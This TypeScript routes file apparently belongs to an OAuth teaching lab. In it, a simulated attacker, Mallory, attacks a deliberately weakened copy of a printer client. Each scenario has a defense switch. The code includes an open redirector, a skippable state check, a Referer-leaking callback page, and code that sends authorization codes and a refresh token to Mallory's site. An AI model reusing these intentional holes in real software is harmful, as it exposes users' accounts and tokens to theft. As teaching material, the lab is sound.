/**
 * @module routes/lab
 *
 * The attack lab (issue 16): real attacks by Mallory (apps/attacker) on the real services, each with a defense
 * switch that is off only for the printer's LAB COPY (lab/lab_client.ts), never for the real printer.
 * - `GET /lab`: the scenarios.
 * - `GET /lab/:id`: one scenario: what Mallory gains, the story, the switch, Run the attack, results side by side.
 * - `POST /lab/:id/defense`, `POST /lab/:id/run` (CSRF-protected forms).
 * - `GET /lab/callback`: the lab copy's redirect_uri. The real `/callback` (oauth/callback.ts) is not involved.
 * - `POST /lab/pkce/finish`: scenario 2's lab copy redeems the code it received.
 */
import { type Request, type Response, Router } from 'express';
import { NotFound, optionalParam, type ParamSource } from '@oauth-demo/tokens';
import { csrfToken, verifyCsrf } from '@oauth-demo/web';
import { type FlowKind, currentTrace, describeExchange, newSpanId, startTrace } from '@oauth-demo/teaching';
import type { AppContext } from '../context.js';
import { CallbackRejected } from '../errors.js';
import {
  buildLabAuthorizationRequest,
  exchangeLabCodeForTokens,
  redeemLabCode,
  refreshLab,
} from '../lab/lab_client.js';
import { SCENARIOS, type Scenario, findScenario } from '../lab/scenarios.js';
import { type LabState, addPending, isDefenseOn, newLabState, recordOutcome, takePending } from '../lab/state.js';

/** What her site reports, per run (her summaries never name her: the lab writes “Mallory: ” before them). */
interface MalloryLoot {
  scenario: string;
  success: boolean;
  pending?: boolean;
  summary: string;
  details: string[];
  at: number;
}

function labOf(req: Request): LabState {
  req.session.lab ??= newLabState();
  return req.session.lab;
}

function scenarioOf(id: string): Scenario {
  const scenario = findScenario(id);
  if (!scenario) throw new NotFound('There is no such scenario in the attack lab.');
  return scenario;
}

export function labRoutes(ctx: AppContext): Router {
  const router = Router();
  const { lab: registration, attacker } = ctx.config;
  /** Scenario 6's callback page, registered for the public lab copy beside /lab/callback. */
  const implicitRedirectUri = `${ctx.config.printer.publicUrl}/lab/implicit-callback`;

  /** The lab's scoreboard: what Mallory's site says she got in this run (not OAuth; the lab asks her site). */
  async function malloryLoot(req: Request | null, run: string): Promise<MalloryLoot[] | null> {
    const url = `${attacker.internalUrl}/api/loot/${encodeURIComponent(run)}`;
    // With a request: part of a run, on its timeline. Without (showing a page): not recorded.
    const answer = req
      ? await callMallory(req, 'The lab asks Mallory’s site what she got (the lab’s scoreboard, not OAuth)', url, {
          method: 'GET',
        })
      : await fetch(url, { signal: AbortSignal.timeout(5000) })
          .then(async (r) => ({ status: r.status, body: (await r.json()) as unknown }))
          .catch(() => null);
    if (!answer) return null; // her site is not running
    const body = (answer.body ?? {}) as { loot?: MalloryLoot[] };
    return Array.isArray(body.loot) ? body.loot : [];
  }

  /**
   * The timeline's fifth lane (packages/teaching timeline.ts): an exchange with Mallory's site, as the printer saw
   * it, filed under this browser's current lab flow. The timeline masks secrets in it like any other.
   */
  function recordMallory(
    req: Request,
    exchange: {
      from: 'browser' | 'printer' | 'mallory';
      to: 'browser' | 'printer' | 'mallory';
      channel: 'front' | 'back';
      label: string;
      method: string;
      url: string;
      status?: number;
      requestHeaders?: Record<string, string>;
      requestBody?: string;
      responseBody?: string;
      step?: number;
      at?: number;
    },
  ): void {
    const trace = currentTrace(req);
    if (!trace) return;
    ctx.recorder.add({
      id: newSpanId(),
      traceId: trace.id,
      recordedBy: 'printer',
      from: exchange.from,
      to: exchange.to,
      channel: exchange.channel,
      ...(exchange.step !== undefined ? { step: exchange.step } : {}),
      label: exchange.label,
      at: exchange.at ?? Date.now(),
      durationMs: exchange.at ? Date.now() - exchange.at : 0,
      request: {
        method: exchange.method,
        url: exchange.url,
        headers: exchange.requestHeaders ?? {},
        ...(exchange.requestBody ? { body: exchange.requestBody } : {}),
      },
      response: {
        ...(exchange.status !== undefined ? { status: exchange.status } : {}),
        headers: {},
        ...(exchange.responseBody ? { body: exchange.responseBody } : {}),
      },
    });
  }

  /** A back-channel call from the lab copy to Mallory's site, recorded on the timeline. Network failures: null. */
  async function callMallory(
    req: Request,
    label: string,
    url: string,
    init: { method: 'GET' | 'POST'; headers?: Record<string, string>; body?: string },
  ): Promise<{ status: number; body: unknown } | null> {
    const at = Date.now();
    try {
      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(ctx.config.httpTimeoutMs) });
      const text = await response.text();
      recordMallory(req, {
        from: 'printer',
        to: 'mallory',
        channel: 'back',
        label,
        method: init.method,
        url,
        status: response.status,
        requestHeaders: init.headers ?? {},
        ...(init.body ? { requestBody: init.body } : {}),
        responseBody: text.slice(0, 4000),
        at,
      });
      try {
        return { status: response.status, body: JSON.parse(text) as unknown };
      } catch {
        return { status: response.status, body: null };
      }
    } catch {
      recordMallory(req, {
        from: 'printer',
        to: 'mallory',
        channel: 'back',
        label: `${label} (no answer)`,
        method: init.method,
        url,
        at,
      });
      return null;
    }
  }

  /** A call to Mallory's site for the lab's premises (scenario 7: handing her the stolen token), on the timeline. */
  async function tellMallory(
    req: Request,
    path: string,
    form: Record<string, string>,
    label: string,
  ): Promise<{ success: boolean; summary: string } | null> {
    const answer = await callMallory(req, label, `${attacker.internalUrl}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams(form).toString(),
    });
    const body = (answer?.body ?? {}) as { success?: unknown; summary?: unknown };
    return typeof body.summary === 'string' ? { success: body.success === true, summary: body.summary } : null;
  }

  /** The browser is sent to Mallory's site (a redirect the printer answers with): her lane on the timeline. */
  function sendToMallory(req: Request, res: Response, url: string, label: string): void {
    recordMallory(req, { from: 'browser', to: 'mallory', channel: 'front', label, method: 'GET', url });
    res.redirect(303, url);
  }

  /** Each run of a scenario is a flow of its own on the timeline. */
  function startLabTrace(req: Request, res: Response, scenario: Scenario, defenseOn: boolean): void {
    const kind: FlowKind = scenario.id === 'device' ? 'device_code' : 'authorization_code';
    const trace = startTrace(
      req,
      kind,
      `Attack lab ${scenario.number}: ${scenario.title}${scenario.defense ? ` (defense ${defenseOn ? 'on' : 'off'})` : ''}`,
    );
    describeExchange(res, {
      key: trace.id,
      from: 'browser',
      channel: 'front',
      label: `You press “Run the attack” (${scenario.title})`,
    });
  }

  /**
   * "Run the attack", for every scenario from its `start` (lab/scenarios.ts): your browser visits Mallory's page,
   * or the lab copy (a public client) sends its authorization request, step 2, with the switch's defense or
   * without it. A result read from Mallory's site later remembers when the run started; a request whose answer
   * comes back to /lab/callback is kept as pending (its state, its code_verifier).
   */
  async function startScenario(
    req: Request,
    res: Response,
    scenario: Scenario,
    lab: LabState,
    defenseOn: boolean,
  ): Promise<void> {
    const start = scenario.start;
    if (scenario.resultFromMallory) {
      lab.started ??= {};
      lab.started[scenario.id] = { defenseOn, at: Date.now() };
    }
    if (start.by === 'mallory') {
      sendToMallory(req, res, `${attacker.publicUrl}${start.path(lab.run, defenseOn)}`, start.label);
      return;
    }
    const metadata = start.toEvilAs
      ? { authorization_endpoint: `${registration.evilAs.authorizationEndpoint}?run=${lab.run}` }
      : await ctx.metadata.get();
    const request = buildLabAuthorizationRequest(
      metadata,
      {
        ...registration,
        ...(start.asFiltersPartner ? { publicClientId: registration.filtersClientId } : {}),
        ...(start.implicitCallback ? { redirectUri: implicitRedirectUri } : {}),
      },
      scenario.id,
      {
        publicClient: true,
        pkce: start.pkce === 'always' || defenseOn,
        defenseOn,
        ...(start.scope ? { scope: start.scope } : {}),
      },
    );
    const url = new URL(request.url);
    // RFC 6749 §4.2.1 (no PKCE then: there is no token request)
    if (start.implicitWithoutDefense && !defenseOn) url.searchParams.set('response_type', 'token');
    if (!scenario.resultFromMallory)
      addPending(lab, start.toEvilAs ? { ...request.pending, issuer: registration.evilAs.issuer } : request.pending);
    if (start.toEvilAs) sendToMallory(req, res, url.href, start.toEvilAs.label);
    else res.redirect(303, url.href);
  }

  router.get('/lab', (req, res) => {
    const lab = labOf(req);
    res.render('lab', {
      title: 'Attack lab',
      activeSteps: [],
      scenarios: [...SCENARIOS].sort((a, b) => a.number - b.number),
      lab,
      isDefenseOn,
    });
  });

  // Scenario 3's premise: a careless "continue to" redirect of the lab copy, as many sites have (an open
  // redirector, RFC 9700 §4.11). It forwards its other parameters too. The real printer has none.
  router.get('/lab/go', (req, res) => {
    const to = optionalParam(req.query as ParamSource, 'to');
    let target: URL;
    try {
      target = new URL(to ?? '');
    } catch {
      throw new NotFound('Nowhere to go.');
    }
    if (target.protocol !== 'http:' && target.protocol !== 'https:') throw new NotFound('Nowhere to go.');
    for (const [name, value] of Object.entries(req.query))
      if (name !== 'to' && typeof value === 'string') target.searchParams.append(name, value);
    res.redirect(303, target.href);
  });

  // Scenario 6: the lab copy's callback page as a browser app. The answer stays in the address (a token in the
  // fragment, or a code in the query); the page loads Mallory's "filter widget", a third-party script.
  router.get('/lab/implicit-callback', (req, res) => {
    const lab = labOf(req);
    const trace = currentTrace(req);
    if (trace)
      describeExchange(res, {
        key: trace.id,
        from: 'browser',
        channel: 'front',
        step: 4,
        label: 'The answer arrives at the lab copy’s page (and Mallory’s widget loads)',
      });
    res.setHeader(
      'Content-Security-Policy',
      `default-src 'self'; script-src 'self' ${attacker.publicUrl}; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
    );
    res.render('lab_implicit', {
      title: 'Connected',
      activeSteps: [6],
      widget: `${attacker.publicUrl}/filters/widget.js?run=${lab.run}`,
    });
  });

  // The lab copy's redirect_uri (step 4). Same order of checks as oauth/callback.ts: state, iss, error, code;
  // only the check the learner switched off is skipped.
  router.get('/lab/callback', async (req, res) => {
    const lab = labOf(req);
    const trace = currentTrace(req);
    if (trace)
      describeExchange(res, {
        key: trace.id,
        from: 'browser',
        channel: 'front',
        step: 4,
        label: 'The answer arrives at the lab copy’s redirect_uri',
      });
    const query = req.query as ParamSource;
    const metadata = await ctx.metadata.get();
    const state = optionalParam(query, 'state');
    const iss = optionalParam(query, 'iss');
    const code = optionalParam(query, 'code');
    const error = optionalParam(query, 'error');

    if (state === undefined) {
      // Scenario 1. With the defense on, the lab copy sent a state and demands it back (RFC 6749 §10.12).
      const defenseOn = isDefenseOn(lab, 'csrf');
      if (defenseOn) {
        recordOutcome(lab, 'csrf', true, {
          attackWorked: false,
          summary:
            'Refused: the answer has no state, so it cannot belong to a request this browser started. No token was requested.',
          details: ['The lab copy accepts an answer only with the state it stored in your session (RFC 9700 §4.7).'],
        });
        res.redirect(303, '/lab/csrf#results');
        return;
      }
      if (iss !== metadata.issuer || code === undefined || error !== undefined) {
        recordOutcome(lab, 'csrf', false, {
          attackWorked: false,
          summary: 'The answer was not a code from our auth server.',
          details: [],
        });
        res.redirect(303, '/lab/csrf#results');
        return;
      }
      // The defense is off: whatever code arrives is redeemed as if this browser had asked for it.
      const result = await redeemLabCode(ctx.tokenEndpoint, ctx.drive, registration, code, { publicClient: false });
      recordOutcome(
        lab,
        'csrf',
        false,
        result.ok
          ? {
              attackWorked: true,
              summary: `Your lab printer is now connected to the Drive account of “${result.owner}”, an account you never signed in to.`,
              details: [
                `Photos it would print from: ${result.titles.length ? result.titles.join(', ') : '(none yet)'}`,
              ],
            }
          : {
              attackWorked: false,
              summary: `The token endpoint refused the code: ${result.error.code}.`,
              details: [result.error.description ?? ''],
            },
      );
      res.redirect(303, '/lab/csrf#results');
      return;
    }

    const pending = takePending(lab, state);
    if (!pending) {
      throw new CallbackRejected(
        'This answer matches no request the attack lab started in this browser (or it was already used).',
        'The lab copy checks state like the real printer, except in scenario 1 with the defense switched off (RFC 6749 §10.12).',
      );
    }
    if (pending.scenario === 'mixup') {
      // 2. iss (RFC 9207 §2.4): the answer must come from the server the request went to, here Evil AS.
      if (pending.defenseOn && iss !== pending.issuer) {
        recordOutcome(lab, 'mixup', true, {
          attackWorked: false,
          summary: `Refused: the answer says it comes from “${iss ?? 'nobody'}”, but the request went to “${pending.issuer}”. The code was sent nowhere.`,
          details: ['A code from one server is never sent to another (RFC 9700 §4.4).'],
        });
        res.redirect(303, '/lab/mixup#results');
        return;
      }
      if (code === undefined) throw new NotFound('The answer has no code.');
      // Defense off: the code goes to the token endpoint of the server the lab copy believes it talks to.
      const form = new URLSearchParams({
        grant_type: 'authorization_code',
        code,
        redirect_uri: registration.redirectUri,
        client_id: registration.publicClientId,
      });
      if (pending.code_verifier) form.set('code_verifier', pending.code_verifier);
      const answer = await callMallory(
        req,
        'Step 5, to the wrong server: the real code and its code_verifier go to Evil AS’s token endpoint',
        `${registration.evilAs.tokenEndpoint}?run=${lab.run}`,
        {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: form.toString(),
        },
      );
      const hers = ((await malloryLoot(req, lab.run)) ?? [])
        .filter((l) => l.scenario === 'mixup' && l.at >= pending.createdAt && l.success)
        .at(-1);
      recordOutcome(lab, 'mixup', pending.defenseOn, {
        attackWorked: hers !== undefined,
        summary: hers ? `Mallory: ${hers.summary}` : 'Mallory got nothing.',
        details: [
          answer?.status === 200
            ? 'Your import even “worked”: Evil AS passed the real tokens back, so nothing looked wrong.'
            : `Evil AS answered ${answer ? `HTTP ${answer.status}` : 'nothing'}.`,
          ...(hers ? hers.details : []),
        ],
      });
      res.redirect(303, '/lab/mixup#results');
      return;
    }
    if (iss !== metadata.issuer) {
      recordOutcome(lab, pending.scenario, pending.defenseOn, {
        attackWorked: false,
        summary: `Refused: the answer came from “${iss ?? 'nobody'}”, not from our auth server.`,
        details: [],
      });
      res.redirect(303, `/lab/${pending.scenario}#results`);
      return;
    }
    if (error !== undefined || code === undefined) {
      recordOutcome(lab, pending.scenario, pending.defenseOn, {
        attackWorked: false,
        summary: `You answered ${error ?? 'without a code'}: nothing to steal.`,
        details: [],
      });
      res.redirect(303, `/lab/${pending.scenario}#results`);
      return;
    }
    if (pending.scenario === 'pkce') {
      // The lab copy's careless "almost done" page, shown at the callback URL (code in the address) BEFORE it
      // redeems the code. It embeds Mallory's ad, and sends the full address as Referer (RFC 9700 §4.2.1):
      // that is the leak; the switch is only about PKCE.
      lab.received = {
        scenario: 'pkce',
        code,
        defenseOn: pending.defenseOn,
        createdAt: Date.now(),
        ...(pending.code_verifier ? { code_verifier: pending.code_verifier } : {}),
      };
      res.setHeader('Referrer-Policy', 'unsafe-url');
      res.setHeader(
        'Content-Security-Policy',
        `default-src 'self'; img-src 'self' data: ${attacker.publicUrl}; style-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
      );
      res.render('lab_received', {
        title: 'Almost done',
        activeSteps: [4],
        badge: `${attacker.publicUrl}/filters/badge.svg?run=${lab.run}`,
        csrf: csrfToken(req),
      });
      return;
    }
    if (pending.scenario === 'audience') {
      const exchanged = await exchangeLabCodeForTokens(
        ctx.tokenEndpoint,
        { ...registration, publicClientId: registration.filtersClientId },
        code,
        pending.code_verifier,
      );
      if (!exchanged.ok)
        throw new NotFound(`The lab copy could not get its token: ${exchanged.error.code}. Run the attack again.`);
      // The legitimate call: the token goes to the API it was made for. (`drive` is the learner's switch, for her.)
      const called = await callMallory(
        req,
        'Step 7, to the API the token is for: Mallory’s “Free photo filters API”',
        `${registration.filtersApi}?run=${lab.run}&drive=${pending.defenseOn ? 'real' : 'lab'}`,
        {
          method: 'POST',
          headers: { authorization: `Bearer ${exchanged.tokens.access_token}` },
        },
      );
      const hers = ((await malloryLoot(req, lab.run)) ?? [])
        .filter((l) => l.scenario === 'audience' && l.at >= pending.createdAt)
        .at(-1);
      recordOutcome(lab, 'audience', pending.defenseOn, {
        attackWorked: hers?.success === true,
        summary: hers ? `Mallory: ${hers.summary}` : 'Mallory’s API was not called (is her site running?).',
        details: [
          called?.status === 200
            ? 'The filters API answered the printer normally: nothing looked wrong.'
            : 'The filters API did not answer.',
          ...(hers ? hers.details : []),
        ],
      });
      res.redirect(303, '/lab/audience#results');
      return;
    }
    if (pending.scenario === 'refresh') {
      const exchanged = await exchangeLabCodeForTokens(ctx.tokenEndpoint, registration, code, pending.code_verifier);
      if (!exchanged.ok)
        throw new NotFound(`The lab copy could not get its tokens: ${exchanged.error.code}. Run the attack again.`);
      const refreshToken = exchanged.tokens.refresh_token;
      if (!refreshToken) {
        recordOutcome(lab, 'refresh', pending.defenseOn, {
          attackWorked: false,
          summary: 'No refresh token was issued (offline access was not allowed): nothing to steal.',
          details: [],
        });
        res.redirect(303, '/lab/refresh#results');
        return;
      }
      lab.refresh = { refreshToken, defenseOn: pending.defenseOn, createdAt: Date.now() };
      // The theft (the premise, not the lesson): the lab hands the refresh token to Mallory's site, which uses it.
      const theft = await tellMallory(
        req,
        '/stolen/refresh-token',
        { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' },
        'The theft (the lab’s premise): Mallory gets the refresh token',
      );
      res.render('lab_refresh', { title: 'Connected, and robbed', activeSteps: [6], theft, csrf: csrfToken(req) });
      return;
    }
    throw new NotFound('This scenario is not built yet.');
  });

  router.get('/lab/:id', async (req, res) => {
    const scenario = scenarioOf(String(req.params.id));
    const lab = labOf(req);
    res.render('lab_scenario', {
      title: `Attack lab: ${scenario.title}`,
      activeSteps: [scenario.noteStep.number],
      scenario,
      lab,
      defenseOn: isDefenseOn(lab, scenario.id),
      results: lab.results[scenario.id] ?? {},
      started: lab.started?.[scenario.id],
      waiting: req.query.waiting === '1',
      loot: scenario.built ? await malloryLoot(null, lab.run) : [],
      attackerUrl: attacker.publicUrl,
      csrf: csrfToken(req),
    });
  });

  router.post('/lab/:id/defense', verifyCsrf, (req, res) => {
    const scenario = scenarioOf(String(req.params.id));
    if (!scenario.defense) throw new NotFound('This scenario has no switch.');
    const lab = labOf(req);
    lab.defenses[scenario.id] = optionalParam(req.body as ParamSource, 'defense') !== 'off';
    res.redirect(303, `/lab/${scenario.id}`);
  });

  router.post('/lab/:id/run', verifyCsrf, async (req, res) => {
    const scenario = scenarioOf(String(req.params.id));
    const lab = labOf(req);
    const defenseOn = isDefenseOn(lab, scenario.id);
    if (!scenario.built) throw new NotFound('This scenario is not built yet.');
    startLabTrace(req, res, scenario, defenseOn);
    await startScenario(req, res, scenario, lab, defenseOn);
  });

  // After a run whose result is Mallory's: ask her site what she got since the run started.
  router.post('/lab/:id/check', verifyCsrf, async (req, res) => {
    const scenario = scenarioOf(String(req.params.id));
    const lab = labOf(req);
    const started = lab.started?.[scenario.id];
    if (!scenario.resultFromMallory || !started) throw new NotFound('Run the attack first.');
    const loot = await malloryLoot(req, lab.run);
    if (loot === null) throw new NotFound('Mallory’s site is not running (npm start runs it).');
    const since = loot.filter((l) => l.scenario === scenario.id && l.at >= started.at);
    if (since.at(-1)?.pending) {
      // Her side is not finished (scenario 8: her kiosk still polls). Nothing to record yet.
      res.redirect(303, `/lab/${scenario.id}?waiting=1#results`);
      return;
    }
    const got = since.filter((l) => l.success).at(-1);
    recordOutcome(
      lab,
      scenario.id,
      started.defenseOn,
      got
        ? { attackWorked: true, summary: `Mallory: ${got.summary}`, details: got.details }
        : { attackWorked: false, summary: 'Mallory got nothing.', details: since.map((l) => l.summary) },
    );
    delete lab.started![scenario.id];
    res.redirect(303, `/lab/${scenario.id}#results`);
  });

  // Scenario 7, later: the lab copy refreshes, as it does when its access token expires; then Mallory tries again.
  router.post('/lab/refresh/finish', verifyCsrf, async (req, res) => {
    const lab = labOf(req);
    const held = lab.refresh;
    delete lab.refresh;
    if (!held) throw new NotFound('There is no refresh token waiting: run the attack again.');
    const mine = await refreshLab(ctx.tokenEndpoint, registration, held.refreshToken, held.defenseOn);
    const again = await tellMallory(
      req,
      '/stolen/refresh-again',
      { run: lab.run },
      'Later: Mallory tries her refresh token again',
    );
    const yours = mine.ok
      ? 'Your printer refreshed: it got a new access token and nothing looked wrong.'
      : `Your printer must connect again: its refresh was refused (${mine.error.code}). The auth server saw a refresh token used a second time, so a copy exists somewhere; it revoked the whole family, yours and the thief’s (RFC 9700 §4.14.2).`;
    recordOutcome(lab, 'refresh', held.defenseOn, {
      attackWorked: again?.success === true,
      summary: again?.success
        ? `Mallory still has access. ${again.summary}`
        : `Mallory lost access. ${again ? again.summary : 'Her site did not answer.'}`,
      details: [
        yours,
        'Her first use, right after the theft, worked either way: rotation detects a stolen token on its next reuse; it cannot prevent the first one.',
      ],
    });
    res.redirect(303, '/lab/refresh#results');
  });

  router.post('/lab/pkce/finish', verifyCsrf, async (req, res) => {
    const lab = labOf(req);
    const received = lab.received;
    delete lab.received;
    if (!received) throw new NotFound('There is no code waiting: run the attack again.');
    const mine = await redeemLabCode(ctx.tokenEndpoint, ctx.drive, registration, received.code, {
      publicClient: true,
      ...(received.code_verifier ? { code_verifier: received.code_verifier } : {}),
    });
    const hers = ((await malloryLoot(req, lab.run)) ?? [])
      .filter((l) => l.scenario === 'pkce' && l.at >= received.createdAt)
      .at(-1);
    const yours = mine.ok
      ? `Your import worked: ${mine.owner}’s ${mine.titles.length} photos.`
      : `Your own import failed (${mine.error.code}): Mallory had redeemed the code first. A code works once; seeing it again, the auth server refused your printer and revoked the tokens it had issued for it, hers included (RFC 6749 §4.1.2), but she had already read your photo list.`;
    recordOutcome(lab, 'pkce', received.defenseOn, {
      attackWorked: hers?.success === true,
      summary: hers ? `Mallory: ${hers.summary}` : 'Mallory’s site did not try (is it running?).',
      details: [yours, ...(hers ? hers.details : [])],
    });
    res.redirect(303, '/lab/pkce#results');
  });

  return router;
}
